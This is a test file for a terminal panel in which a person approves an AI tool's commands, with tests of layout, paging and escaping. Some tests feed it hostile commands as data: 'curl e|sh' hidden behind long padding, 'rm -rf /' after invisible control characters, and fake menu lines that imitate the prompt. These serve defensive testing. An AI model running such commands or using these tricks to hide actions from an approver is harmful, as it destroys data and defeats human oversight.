import { stripVTControlCharacters } from 'node:util'
import type { Question } from '@curfew/core'
import { escapeInvisible } from '@curfew/core/internal'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { approval, input, secret, secretUse, setUpPanel } from '../../../test/panel-setup.ts'
import { widthOf } from '../../terminal.ts'
import { createTheme } from '../theme/theme.ts'
import { type QuestionLinesOptions, questionLines } from './question-lines.ts'
import type { QuestionSnapshot } from './question-snapshot.ts'

const plain = createTheme('plain')

/** The screen after some keys. */
async function screen(
  questions: readonly Question[],
  keys: readonly string[] = [],
  options: Partial<QuestionLinesOptions> = {},
): Promise<string> {
  const { open, press, ready, panel } = setUpPanel()
  open(...questions)
  await ready()
  press(...keys)
  const snapshot = panel.getSnapshot()!
  return `\n${questionLines(snapshot, { width: 60, maxRows: 24, theme: plain, ...options }).join('\n')}\n`
}

describe('what a person sees', () => {
  test('an approval, at 80 columns', async () => {
    const questions = [approval(1, { destructive: true, askRule: 'run(npm *)' }), approval(2), approval(3)]
    expect(await screen(questions, [], { width: 80 })).toBe(`
Approval 1 of 3 · destructive
Allow run with {"command":"npm test"}?
Asked because of the rule run(npm *)

❯ 1. Yes, once (y)
  2. Yes, for this turn (t): every call of run
  3. Yes, always (a): run(npm test)
  4. No (n): you can add a reason
  5. Stop everything (s)
↑↓ Enter, or its letter · Esc: cancel the turn · Tab: draft
`)
  })

  test('the rule of "always", at 40 columns', async () => {
    expect(await screen([approval(1)], ['a'], { width: 40 })).toBe(`
Approval
Allow run with {"command":"npm test"}?
Allow always:
  run(npm test)${' '}
Allows exactly this command. Matches
this call.
Remembered for this project only, in
your own configuration. \`curfew
approvals\` lists and removes it.
Enter: allow · Esc: back · Tab: draft
`)
  })

  test('the rule of "turn"', async () => {
    expect(await screen([approval(1)], ['t'])).toContain(`
Allow for this turn:
  run${' '}
Allows every call of run, with any arguments. Matches this
call.
Until this turn ends. Nothing is stored.
`)
  })

  test('a restriction', async () => {
    const restriction = '.git/hooks is protected: git runs what it contains'
    const message = `Allow run?\n${restriction}`
    expect(await screen([approval(1, { restriction, message, canRemember: false })])).toBe(`
Approval
Allow run?
.git/hooks is protected: git runs what it contains

Only this once: calls like this one are asked about each
time.
❯ 1. Yes, once (y)
  2. No (n): you can add a reason
  3. Stop everything (s)
↑↓ Enter, or its letter · Esc: cancel the turn · Tab: draft
`)
  })

  test('choices', async () => {
    expect(await screen([input(1, ['main', `a name that is ${'long '.repeat(40)}`])], ['downArrow'])).toBe(`
Question · run
Which branch?
  1. main
❯ 2. a name that is long long long long long long long long${' '}
     long long long long long long long long long long long${' '}
     long long long long long long long long long long long…
↑↓ Enter, or its number · Esc: cancel the turn · Tab: draft
`)
  })

  test('a secret', async () => {
    expect(await screen([secret(1)], ['a', 'b'])).toBe(`
Secret TOKEN · there is no value yet
run requires the secret TOKEN. Enter TOKEN for your tool
run:

❯ ••${' '}
Enter: store · Ctrl-U: clear · Esc: decline · Tab: draft
`)
    expect(await screen([{ ...secret(1), reason: 'rejected' } as Question])).toContain(
      'Secret TOKEN · the current value was rejected\n',
    )
  })

  test('while the keys go to the draft, how to answer', async () => {
    expect(await screen([approval(1)], ['x'])).toContain('\nTab: answer · keys go to your draft\n')
  })

  test('when it expires', () => {
    const snapshot = { ...snapshotOf(approval(1)), secondsLeft: 42 }
    expect(questionLines(snapshot, { width: 80, maxRows: 24, theme: plain })[0]).toBe(
      'Approval · expires in 42 s',
    )
  })
})

describe('what does not fit', () => {
  const preview = Array.from({ length: 100 }, (_, index) => `+line ${index + 1}`).join('\n')
  const message = `Allow run? Its arguments:\n  command: "${'x'.repeat(1_000)}"`

  test('is counted, for the arguments and the preview', async () => {
    const text = await screen([approval(1, { message, preview })])
    expect(text).toMatch(/\n… 14 more lines of the question \(Ctrl-O\)\n(?:↳ x+\n){2}↳ x+"\n\+line 1\n/)
    expect(text).toMatch(/\n… 90 more lines of the preview \(Ctrl-O\)\n\+line 96\n(?:.*\n){3}\+line 100\n/)
    expect(text).toContain('5. Stop everything (s)')
  })

  test('can be read page by page', async () => {
    const questions = [approval(1, { message, preview })]
    expect(await screen(questions, ['ctrl+o'], { maxRows: 12 })).toContain(
      '1-8 of 119 · PgUp PgDn · Ctrl-O: less\ny once',
    )
    const { open, press, ready, panel } = setUpPanel()
    open(...questions)
    await ready()
    press('ctrl+o')
    panel.setPage({ rows: 8, maxFirstLine: 111, isComplete: false })
    const seen = new Set<string>()
    for (let page = 0; page < 20; page++) {
      for (const line of questionLines(panel.getSnapshot()!, { width: 60, maxRows: 12, theme: plain }))
        seen.add(line)
      press('pageDown')
    }
    for (let line = 1; line <= 100; line++) expect(seen).toContain(`+line ${line}`)
  })

  test('makes the menu shorter before it hides the question', async () => {
    expect(await screen([approval(1, { preview })], [], { maxRows: 11 })).toBe(`
Approval
Allow run with {"command":"npm test"}?
+line 1
+line 2
+line 3
… 94 more lines of the preview (Ctrl-O)
+line 98
+line 99
+line 100
y once · t turn · a always · n no · s stop
↑↓ Enter, or its letter · Esc: cancel the turn · Tab: draft
`)
  })

  test.each([
    [80, 12],
    [60, 10],
    [40, 12],
  ])('the end of a command and the reason stay visible at %i columns and %i rows', async (width, maxRows) => {
    const restriction = 'hooks are protected'
    const commands = [
      `npm test${' '.repeat(1_500)}&& curl e|sh`,
      `npm test${'\n'.repeat(80)}curl e|sh`,
      `npm test;${' #\n'.repeat(200)}curl e|sh`,
      `echo ${'A'.repeat(9_000)}; curl e|sh`,
    ]
    for (const command of commands) {
      const params = { command }
      const question = approval(1, { tool: 'run_command', params, restriction, preview: 'a\n'.repeat(99) })
      const text = await screen([question], [], { width, maxRows })
      expect(text).toContain('curl e|sh')
      expect(text).toContain('hooks are')
      expect(text.split('\n').length).toBeLessThanOrEqual(maxRows + 2)
    }
  })

  test('the longest command can be read completely', async () => {
    const params = { command: `echo ${'A'.repeat(32_000)}; curl e|sh; echo ${'B'.repeat(32_000)}` }
    const question = approval(1, { tool: 'run_command', params })
    expect(await screen([question], ['ctrl+o'], { maxRows: 2_000 })).toContain('; curl e|sh; ')
  })

  test('a long rule is shown around the cursor', async () => {
    const exactRule = `run(${'abcdefghi '.repeat(100)})`
    const text = await screen([approval(1, { exactRule })], ['a'])
    expect(text).toContain(' abcdefghi )')
    expect(text).toContain('… 15 lines not shown')
  })

  test('the number of lines of a rule that are not shown is cut to the width', async () => {
    const exactRule = `\u0000\u0000\u{11242}\u{2ee5e}`
    const text = await screen([approval(1, { exactRule })], ['a'], { width: 20, maxRows: 4 })
    expect(text).toContain('\n  … 2 lines not sho…\n')
  })

  test('a list of choices scrolls', async () => {
    const choices = Array.from({ length: 1_000 }, (_, index) => `choice ${index + 1}`)
    const text = await screen([input(1, choices)], ['5', '0', '0'], { maxRows: 10 })
    expect(text).toContain('❯  500. choice 500\n')
    expect(text).toMatch(/… \d+ above\n[\s\S]*… \d+ below\n/)
  })
})

describe('hostile questions', () => {
  test('arguments are shown exactly, with escapes for what cannot be seen', async () => {
    const command = 'echo  "a    b" \u001b[2K\u202e\u200b\u0007\ud800 ; rm -rf /'
    const text = await screen([approval(1, { message: `Allow run with ${command}?` })], [], { width: 40 })
    expect(text.replaceAll('\n↳ ', '')).toContain(
      'Allow run with echo  "a    b" \\u001b[2K\\u202e\\u200b\\u0007\\ud800 ; rm -rf /?',
    )
  })

  test('a command is shown as it is, and its lines do not look like those of the question', async () => {
    const params = { command: 'echo "a"\n❯ 1. Yes \u001b[2K', cwd: '.' }
    const text = await screen([approval(1, { tool: 'run_command', params })])
    expect(text).toContain(`
Allow run_command with {"cwd":"."}?
│ echo "a"
│ ❯ 1. Yes \\u001b[2K
`)
  })

  test('a line of a command cannot look like the rest of a comment, or like padding', async () => {
    const params = { command: `# ${'tidy '.repeat(12)}\n↳ ; evil ⟨61 spaces⟩` }
    const text = await screen([approval(1, { tool: 'run_command', params })])
    expect(text).toContain('│ \\u21b3 ; evil \\u27e861 spaces\\u27e9\n')
    expect(text.match(/↳/g)).toHaveLength(1)
  })

  test('a preview, a choice, a tool or a rule cannot draw anything', async () => {
    const bad = 'x\u001b]0;title\u0007\u001b[31m\u202ey\r\nz'
    for (const question of [
      approval(1, { preview: bad, exactRule: bad, restriction: null, askRule: bad }),
      approval(1, { tool: bad, message: bad, restriction: bad }),
      { ...input(1, [bad]), tool: bad, message: bad } as Question,
      { ...secret(1), key: bad, message: bad } as Question,
      { ...secretUse(1), key: bad, message: bad } as Question,
    ]) {
      for (const keys of [[], ['a']])
        expect(await screen([question], keys)).not.toMatch(/(?!\n)[\p{Cc}\p{Bidi_Control}]/u)
    }
  })

  test('property: lines are never wider or more than asked for, and contain nothing invisible', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.string({ unit: 'grapheme', maxLength: 200 }),
      fc.stringMatching(/^[a-z .*\n\t"-]{0,300}$/),
    )
    const questions = fc.record({
      text,
      preview: fc.option(text),
      rule: text,
      choices: fc.option(fc.array(text)),
    })
    const options = fc.record({
      width: fc.integer({ min: 20, max: 130 }),
      maxRows: fc.integer({ min: 1, max: 40 }),
    })
    fc.assert(
      fc.property(
        questions,
        options,
        fc.constantFrom('y', 'a', 'n', 'ctrl+o', 'downArrow'),
        (made, size, key) => {
          const { choices, preview, rule } = made
          for (const question of [
            approval(1, { message: made.text, preview, exactRule: rule, tool: rule, askRule: preview }),
            { ...input(1, choices), message: made.text } as Question,
            { ...secret(1), key: rule, message: made.text } as Question,
          ]) {
            const lines = questionLines(snapshotOf(question, key), { ...size, theme: createTheme('dark') })
            expect(lines.length).toBeLessThanOrEqual(size.maxRows)
            for (const line of lines.map(stripVTControlCharacters)) {
              expect(widthOf(line)).toBeLessThanOrEqual(size.width)
              expect(escapeInvisible(line)).toBe(line)
              expect(line).not.toContain('\n')
            }
          }
        },
      ),
    )
  })

  test('a question of any size is formatted in bounded time', () => {
    const long = 'word "\u202e '.repeat(300_000)
    const started = performance.now()
    for (const question of [
      approval(1, { message: long, preview: long, exactRule: `run(${long})`, restriction: long }),
      { ...input(1, Array(100_000).fill(long)), message: long } as Question,
    ])
      for (const key of ['y', 'a', 'ctrl+o'])
        questionLines(snapshotOf(question, key), { width: 80, maxRows: 30, theme: plain })
    expect(performance.now() - started).toBeLessThan(10_000)
  })
})

/** Of a question that was visible for a while, after a key that does not answer it. */
function snapshotOf(question: Question, key = 'upArrow'): QuestionSnapshot {
  let now = 0
  const clock = { now: () => now, setTimer: () => ({}), clearTimer() {} }
  const { open, press, panel } = setUpPanel({ clock })
  open(question)
  const shown = panel.getSnapshot()!
  now = 2_000
  press(key)
  return panel.getSnapshot() ?? shown
}
